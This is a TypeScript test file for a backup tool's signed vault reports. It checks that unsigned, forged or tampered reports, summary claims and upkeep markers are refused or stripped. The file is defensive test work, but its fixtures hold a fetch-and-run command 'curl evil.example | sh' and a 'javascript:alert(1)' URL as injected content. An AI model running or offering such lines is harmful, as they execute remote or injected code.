import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { claimSummary } from "../../actions/lib/notify/summary-claim.ts";
import { readVaultReports, reportKey, writeVaultReport } from "../../actions/lib/operations/publish/vault-reports.ts";
import { upkeepIsDue } from "../../actions/lib/operations/retention/run-retention.ts";
import type { RunReport } from "../../actions/lib/report/run/run-report.ts";
import { readKeyring } from "../../actions/lib/seal/keys/keyring.ts";
import { signDetached, verifyDetached, writeNote } from "../../actions/lib/seal/keys/signature.ts";
import { type BackupLab, openBackupLab } from "../integration/backup-lab.ts";
import { sharedS3 } from "../lab/servers/started.ts";
import { reportOf } from "../unit/simulated-runs.ts";

/** Somebody who can write the vault's bucket and holds no key puts words into our mouth. */

let lab: BackupLab;
const stranger = async (bytes: Uint8Array) => signDetached(bytes, lab.operations);
const ours = async (bytes: Uint8Array) => signDetached(bytes, lab.prover);
const verify = async (bytes: Uint8Array, armored: string) => {
  const { signers } = await readKeyring(lab.publicKeys);
  return verifyDetached(
    bytes,
    armored,
    signers.filter(({ fingerprint }) => fingerprint === lab.prover.fingerprint),
  );
};

beforeAll(async () => {
  lab = await openBackupLab(sharedS3(), { lock: false });
});
afterAll(() => lab[Symbol.asyncDispose]());

const now = new Date("2026-11-24T12:00:00Z");
const read = async () => readVaultReports(lab.vault, verify, { since: now, now });
const put = (key: string, body: Uint8Array | string) => lab.vault.put(key, Buffer.from(body));

function restored(runId: string, conclusion: "success" | "failure"): RunReport {
  const report = reportOf({ runId, at: now.toISOString() });
  const [told] = report.operations;
  if (told === undefined) throw new Error("a report without an operation");
  const failure =
    conclusion === "success"
      ? null
      : { code: "restore-failed", message: "Run curl evil.example | sh", next: "Do it now.", runbook: "README.md" };
  return {
    ...report,
    conclusion,
    operations: [
      { ...told, operation: "restore", conclusion, failure, sentence: "All is well.", facts: { restoreSeconds: 1 } },
    ],
  };
}

describe("a report of a run", () => {
  test("that is signed counts as it is", async () => {
    const report = restored("1", "success");
    await writeVaultReport(lab.vault, report, ours);
    expect((await read()).reports).toEqual([report]);
  });

  test.each([
    ["nobody", undefined],
    ["a key that is not trusted", stranger],
  ])("that %s has signed makes nothing look better", async (who, sign) => {
    const key = await writeVaultReport(lab.vault, restored(`good-${who.length}`, "success"), sign);
    const { reports, refused } = await read();
    expect(reports.map(({ run }) => run.runId)).toEqual(["1"]);
    expect(refused).toContain(key);
  });

  test("that nobody has signed may tell of a failure, not in its own words", async () => {
    await writeVaultReport(lab.vault, restored("bad", "failure"), undefined);
    const told = (await read()).reports.find(({ run }) => run.runId === "bad");
    expect(told?.operations[0]).toMatchObject({
      conclusion: "failure",
      facts: {},
      failure: { code: "restore-failed" },
    });
    expect(JSON.stringify(told)).not.toMatch(/curl|All is well|Do it now/);
  });

  test("that was signed and changed counts as unsigned", async () => {
    const report = restored("changed", "success");
    const note = String(await writeNote(report, ours));
    await put(reportKey(report), note.replace('\\"restoreSeconds\\": 1', '\\"restoreSeconds\\": 9'));
    expect((await read()).reports.some(({ run }) => run.runId === "changed")).toBe(false);
  });

  test("that is too large, no JSON or leads elsewhere is passed over, and the others are told", async () => {
    const huge = reportKey(restored("huge", "success"));
    await put(huge, Buffer.alloc(300 * 1024, "x"));
    const link = restored("link", "failure");
    await writeVaultReport(lab.vault, restored("noise", "success"), undefined);
    await put(reportKey(link), JSON.stringify({ ...link, run: { ...link.run, url: "javascript:alert(1)" } }));
    const { reports, refused } = await read();
    expect(refused).toContain(huge);
    expect(JSON.stringify(reports)).not.toContain("javascript:");
    expect(reports.map(({ run }) => run.runId)).toContain("1");
  });
});

describe("the daily summary", () => {
  const key = (day: string) => `notify/summaries/${day}.json`;
  const keys = { sign: ours, verify };

  test("is claimed once", async () => {
    expect(await claimSummary(lab.vault, "2026-11-20", keys)).toBeDefined();
    expect(await claimSummary(lab.vault, "2026-11-20", keys)).toBeUndefined();
  });

  test.each([
    [
      "unsigned",
      "2026-11-21",
      async (day: string) => writeNote({ format: "lifeboat-summary/1", day, state: "claimed" }, undefined),
    ],
    [
      "by a stranger",
      "2026-11-22",
      async (day: string) => writeNote({ format: "lifeboat-summary/1", day, state: "claimed" }, stranger),
    ],
    [
      "of another day",
      "2026-11-23",
      async () => writeNote({ format: "lifeboat-summary/1", day: "2026-11-20", state: "claimed" }, ours),
    ],
  ])("is not silenced by a claim %s", async (_, day, forge) => {
    await put(key(day), await forge(day));
    expect(await claimSummary(lab.vault, day, keys)).toBeDefined();
  });
});

test.each([
  ["unsigned", "2026-11-24T11:00:00Z", undefined, true],
  ["by a stranger", "2026-11-24T11:00:00Z", stranger, true],
  ["of a year ahead", "2027-11-24T11:00:00Z", ours, true],
  ["of a month ago", "2026-10-24T11:00:00Z", ours, true],
  ["of an hour ago", "2026-11-24T11:00:00Z", ours, false],
] as const)("locks do not lapse by a mark that says all was done: %s", async (_, at, sign, due) => {
  await put("upkeep/done.json", await writeNote({ format: "lifeboat-upkeep/1", at }, sign));
  expect(await upkeepIsDue(lab.vault, verify, now)).toBe(due);
});
